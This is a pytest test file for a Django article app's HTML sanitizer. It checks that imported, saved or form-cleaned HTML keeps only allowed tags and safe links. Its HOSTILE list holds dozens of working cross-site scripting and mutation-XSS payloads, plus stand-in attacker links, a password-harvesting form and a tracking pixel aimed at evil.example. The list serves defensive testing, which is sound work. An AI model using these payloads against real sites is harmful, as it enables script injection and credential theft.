"""Whatever HTML comes in, by import or by the model, only harmless HTML is stored."""

import re
from urllib.parse import urlsplit

import pytest
from django.core.exceptions import ValidationError
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from articles import html as articles_html
from articles.html import clean_html, html_to_text
from articles.models import Article, Question

from .importing import line, run_import, write_lines

TAGS_WITHOUT_ATTRIBUTES = (
    "blockquote br caption em figcaption figure h2 h3 li p strong sub sup table tbody thead"
    " tr ul".split()
)
ALLOWED = {
    **{tag: set() for tag in TAGS_WITHOUT_ATTRIBUTES},
    "a": {"href"},
    "div": {"class"},
    "img": {"alt", "data-picture"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
}
SCHEMES = {"", "http", "https", "mailto", "tel"}
CARE_CARDS = {f"care-card care-card-{level}" for level in ("non-urgent", "urgent", "emergency")}
# Nothing but text, entities and tags whose attributes are quoted: no two parsers disagree on it.
PLAIN = re.compile(r'(?:[^<>"\0]|"|</?[a-z0-9]+(?: [a-z-]+="[^"<>]*")*>)*')


def assert_harmless(stored):
    assert PLAIN.fullmatch(stored), stored
    for element in lxml_html.fragment_fromstring(stored, create_parent="main").iterdescendants():
        assert isinstance(element.tag, str), f"a comment or an instruction in {stored}"
        assert set(element.keys()) <= ALLOWED[element.tag] | {"lang"}, stored
        assert element.get("class", "care-card care-card-urgent") in CARE_CARDS, stored
        if element.tag == "a":
            assert_safe_address(element.get("href"))
    assert clean_html(stored) == stored


def assert_safe_address(href):
    # As browsers read it: space around it and line breaks and tabs inside it do not count.
    address = re.sub(r"[\t\n\r]", "", href.strip("".join(map(chr, range(33)))))
    assert not address.replace("\\", "/").startswith("//"), href
    assert urlsplit(address).scheme.lower() in SCHEMES, href


HOSTILE = [
    # Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</p><script>alert(1)//*/</script>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script\x0c>",
    # Event handlers
    "<p onclick=alert(1)>a</p>",
    "<p OnMouseOver = 'alert(1)'>a</p>",
    "<p/onclick=alert(1)>a</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>a</body>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<a href=/a onclick=alert(1)>a</a>",
    "<table background=javascript:alert(1)><tr><td onmouseover=alert(1)>a</td></tr></table>",
    # Addresses
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" JaVaScRiPt:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="&#106;avascript&colon;alert(1)">a</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">a</a>',
    '<a href="jav&#x0A;ascript:alert(1)">a</a>',
    '<a href="&#1;javascript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href="javascript\0:alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="blob:https://example.org/1">a</a>',
    '<a href="//evil.example/">a</a>',
    '<a href="\\\\evil.example/">a</a>',
    '<a href="/\\evil.example/">a</a>',
    '<a href="/\t/evil.example/">a</a>',
    '<a href="/&#10;/evil.example/">a</a>',
    '<a href=" &#9;//evil.example/">a</a>',
    "<a href=`javascript:alert(1)`>a</a>",
    '<a href="https://example.org/" target=_blank ping=//evil.example rel=opener>a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    # Foreign content
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><p onclick=alert(1)>a</p></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    '<math href="javascript:alert(1)">a</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">a</maction></math>',
    # Style
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">a</p>',
    '<p style="position:fixed;inset:0;font-size:99rem">a</p>',
    '<div class="modal care-card admin">a</div>',
    '<div class="care-card care-card-urgent hidden" style="x:expression(alert(1))">a</div>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    # What loads, sends or moves
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button formaction=x>a</button></form>",
    "<base href=//evil.example/><a href=x>a</a>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<img src=//evil.example/pixel.gif width=1>",
    "<frameset><frame src=//evil.example></frameset>",
    "<applet code=Evil.class></applet>",
    # Comments, sections, instructions
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><?php echo 1 ?><p>a</p>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    # What is parsed one way first and another way later
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template><p title="</template><svg/onload=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<noembed><noframes><plaintext><script>alert(1)</script>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=x>">',
    '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">&lt;script&gt;alert(1)</p>',
    # Nesting
    "<em><p><strong></em>a</p><table><p>b<tr><em>c</table></strong>",
    "<h2><h3><div class='care-card care-card-urgent'><h2>a</h3></div>",
    "<a href=/a><a href=/b><table><a href=/c>a</table></a>",
    "<table><tr><td><table></td></tr><a href=javascript:x>a</table>",
    "</p></div></body></html><p>a",
    "<li><ul><ol><li></ol>a</li></p></br>",
    "<p>a" * 300,
    "<blockquote>" * 3000 + "a",
    "<em>" * 3000 + "a" + "</em><p>b</p>",
    # Characters
    "<p>a\0b\x01c\x1bd\x7fe\x85f</p>",
    "<p>a&#0;b&#1;c&#x1b;d&#xd800;e&#xfffe;f</p>",
    "<p>half \ud83d a character</p>",
    "<p>\ufffe\uffff\ufeffa</p>",
    "<p\0 onclick=alert(1)>a</p>",
    "<p>a\r\nb\rc&#13;d</p>",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_a_hostile_body_is_harmless_once_imported(tmp_path, db, body):
    article = line(
        body_html=f"<p>Seen</p>{body}",
        questions=[{"question": "Is it?", "answer_html": f"<p>Seen</p>{body}"}],
    )
    outcome = run_import(write_lines(tmp_path / "articles.jsonl", article))
    if re.search("[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", body):
        assert "field `body_html`: has a character that is not text" in outcome.errors
        assert not Article.objects.exists()
    else:
        assert outcome.status == 0
        for stored in (Article.objects.get().body, Question.objects.get().answer):
            assert "Seen" in html_to_text(stored)
            assert_harmless(stored)


@pytest.mark.parametrize("body", HOSTILE)
def test_a_hostile_body_is_harmless_whatever_way_it_is_saved(db, body):
    article = Article(title="Hostile", body=f"<p>Seen</p>{body}")
    article.save()
    assert_harmless(article.body)
    assert Article.objects.get().body == article.body
    article.body = f"<p>Seen</p>{body}"
    Article.objects.bulk_update([article], ["body"])
    assert_harmless(Article.objects.get().body)
    Article.objects.update(body=f"<p>Again</p>{body}")
    assert_harmless(Article.objects.get().body)


@pytest.mark.parametrize("body", HOSTILE)
def test_a_hostile_body_is_harmless_once_a_form_has_cleaned_it(body):
    article = Article(title="Hostile", slug="hostile", body=f"<p>Seen</p>{body}")
    article.clean_fields()
    assert "Seen" in html_to_text(article.body)
    assert_harmless(article.body)


@pytest.mark.parametrize(
    "body", ["", "<p></p>", "<p>&nbsp;\u200b</p>", "<script>x</script>", "<br>"]
)
def test_a_body_that_shows_nothing_is_empty(body):
    assert clean_html(body) == ""


def test_a_question_with_an_answer_that_shows_nothing_is_not_valid():
    question = Question(question="Why?", answer="")
    with pytest.raises(ValidationError):
        question.clean_fields(exclude=["article"])


def test_an_address_that_was_broken_over_lines_is_mended():
    html = clean_html('<a href=" https://example.org/a\n\t/b ">a</a>')
    assert html == '<a href="https://example.org/a/b">a</a>'


def test_nesting_that_no_parser_follows_keeps_its_text():
    assert clean_html("<p>Before</p>" + "<em>" * 5000 + "after") == "Beforeafter"


def test_html_that_never_settles_is_kept_as_text(monkeypatch):
    monkeypatch.setattr(articles_html, "_clean_once", lambda html: f"<em>{html}</em>")
    assert clean_html("a &amp; b") == "a &amp; b"


TAGS = (
    "a b blockquote br caption div em form h1 h2 h3 h4 i li math mtext noscript ol p select span"
    " strong style sub sup svg table tbody td template textarea th thead tr ul"
).split()
ATTRIBUTES = [
    *("", ' href="/a"', ' href="//e"', " href=javascript:a", ' href="https://e.org/?a=1&amp;b"'),
    *(" onclick=a", ' class="care-card care-card-urgent"', ' class="care-card"', ' scope="col"'),
    *(" colspan=2", ' title="</p><script>"', ' lang="es"'),
]
TEXTS = ["a", " ", "\n", "&nbsp;", "&lt;p&gt;", "&#1;", "<!--", "-->", "<![CDATA[", "]]>", "<", '"']
pieces = st.one_of(
    st.builds("<{}{}>".format, st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)),
    st.sampled_from(TAGS).map("</{}>".format),
    st.sampled_from(TEXTS),
    st.text(max_size=3),
)


@given(st.lists(pieces, max_size=25).map("".join))
@example("<h4><div><h4><td>a<svg>")
@example(']]>&#1;<tbody><dt href="javascript:a"></dt><option href=" /a\tb ">b')
@settings(max_examples=300, deadline=None)
def test_any_html_is_harmless_once_cleaned_and_cleaning_it_again_changes_nothing(html):
    assert_harmless(clean_html(html))


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<ul><li><p>a</p></li></ul>", "<ul><li>a</li></ul>"),
        ("<ul><li><p>a</p><p>b</p></li></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"),
        ("<h1>a</h1><h5>b</h5><p><b>c</b></p>", "<h2>a</h2><h3>b</h3><p><strong>c</strong></p>"),
        ('<div class="care-card">a</div>', "a"),
        ("<p>a</p><p> </p><ul></ul>", "<p>a</p>"),
    ],
)
def test_what_editors_and_word_processors_write_gets_one_form(html, cleaned):
    assert clean_html(html) == cleaned
